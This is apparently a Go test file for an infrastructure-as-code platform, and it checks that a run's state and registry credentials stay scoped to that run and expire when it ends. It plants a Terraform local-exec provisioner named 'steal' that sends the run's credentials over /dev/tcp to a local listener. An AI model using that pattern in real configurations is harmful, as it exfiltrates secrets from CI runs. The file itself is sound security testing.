package app_test

import (
	"bufio"
	"net"
	"net/http"
	"strings"
	"testing"
	"time"
)

// TestRunCredentialsAreScoped: a run's code takes its own credentials (they
// are in its environment, as on every IaC platform) and tries them where
// it should not. The state token opens its own stack's state and nothing
// else, the registry credential is the same lease's, and both die with the
// run.
func TestRunCredentialsAreScoped(t *testing.T) {
	t.Parallel()
	h := runsSetup(t, nil)
	h.Must(http.StatusCreated, "POST", "/api/v1/stacks", h.AdminKey, map[string]any{"name": "api", "space": "platform",
		"repository": runsProject, "branch": "main", "project_root": "api"})
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { ln.Close() })
	// The provisioner sends its credentials, then waits for the test's go.
	cfg := `resource "terraform_data" "steal" {
  provisioner "local-exec" {
    interpreter = ["/bin/bash", "-c"]
    command     = "exec 3<>/dev/tcp/` + strings.Replace(ln.Addr().String(), ":", "/", 1) + `; echo \"$TF_HTTP_USERNAME $TF_HTTP_PASSWORD\" >&3; read -r go <&3"
  }
}
`
	sha := h.push("main", map[string]string{"infra/main.tf": cfg})
	r := h.waitState(h.waitRunAt("web", sha, "TRACKED").ID, "UNCONFIRMED")
	h.Must(http.StatusOK, "POST", "/api/v1/runs/"+r.ID+"/confirm", h.AdminKey, nil)
	if err := ln.(*net.TCPListener).SetDeadline(time.Now().Add(60 * time.Second)); err != nil {
		t.Fatal(err)
	}
	conn, err := ln.Accept()
	if err != nil {
		t.Fatalf("the provisioner never called: %v", err)
	}
	defer conn.Close()
	line, err := bufio.NewReader(conn).ReadString('\n')
	if err != nil {
		t.Fatal(err)
	}
	user, token, _ := strings.Cut(strings.TrimSpace(line), " ")
	if user != r.ID || !strings.HasPrefix(token, "hoistrun_") {
		t.Fatalf("credentials %q", line)
	}
	try := func(method, path string, basic bool) int {
		t.Helper()
		req, err := http.NewRequestWithContext(t.Context(), method, h.URL+path, strings.NewReader(`{"ID":"x"}`))
		if err != nil {
			t.Fatal(err)
		}
		if basic {
			req.SetBasicAuth(user, token)
		} else {
			req.Header.Set("Authorization", "Bearer "+user+":"+token)
		}
		resp, err := h.HTTP.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		return resp.StatusCode
	}
	const registry = "/registry/modules/v1/platform/nothing/null/versions"
	checks := []struct {
		what         string
		method, path string
		basic        bool
		ok           bool
	}{
		{"own state", "GET", "/api/v1/state/web", true, true},
		{"another stack's state", "GET", "/api/v1/state/api", true, false},
		{"another stack's lock", "POST", "/api/v1/state/api/lock", true, false},
		{"another stack's unlock", "DELETE", "/api/v1/state/api/lock", true, false},
		{"the registry", "GET", registry, false, true},
		{"the API", "GET", "/api/v1/stacks", false, false},
	}
	for _, c := range checks {
		code := try(c.method, c.path, c.basic)
		if c.ok == (code == http.StatusUnauthorized || code == http.StatusForbidden) {
			t.Errorf("%s with the run's credentials while it runs: %d", c.what, code)
		}
	}
	if _, err := conn.Write([]byte("go\n")); err != nil {
		t.Fatal(err)
	}
	h.waitState(r.ID, "FINISHED")
	for _, c := range checks {
		if code := try(c.method, c.path, c.basic); code != http.StatusUnauthorized {
			t.Errorf("%s with the run's credentials after it ended: %d, want 401", c.what, code)
		}
	}
}
